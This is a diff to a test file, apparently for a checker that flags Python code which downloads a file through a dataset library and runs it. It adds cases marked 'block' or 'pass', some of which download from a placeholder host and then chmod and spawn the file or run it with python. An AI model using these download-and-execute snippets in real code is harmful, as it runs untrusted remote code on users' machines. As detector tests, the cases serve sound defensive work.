@@ -26,6 +26,26 @@ describe('in Python, what a client fetched', () => {
       'pass',
     ],
     [
+      'is what the builder of a data set downloads, and is started',
+      'def f(dl):\n    p = dl.download("https://c.example.invalid/x")\n    os.chmod(p, 0o755)\n    os.spawnl(os.P_NOWAIT, p, p)',
+      'block',
+    ],
+    [
+      'is what the builder of a data set downloads',
+      'def f(dl):\n    p = dl.download_and_extract("https://c.example.invalid/x.zip")\n    os.spawnlp(os.P_WAIT, "gzip", "gzip", "-d", p)\n    return open(p).read()',
+      'pass',
+    ],
+    [
+      'is the script of an interpreter that takes its words one by one',
+      'import datasets\np = datasets.DownloadManager().download("https://c.example.invalid/x")\nos.execlp("python", "python", p)',
+      'block',
+    ],
+    [
+      'is given to a script by an interpreter that takes its words one by one',
+      'import datasets\np = datasets.DownloadManager().download("https://c.example.invalid/x")\nos.execlp("python", "python", "convert.py", p)',
+      'pass',
+    ],
+    [
       'is in a folder',
       'snapshot_download("a/b", local_dir="./x")\nsubprocess.run(["sh", "x/tools/run.sh"])',
       'block',
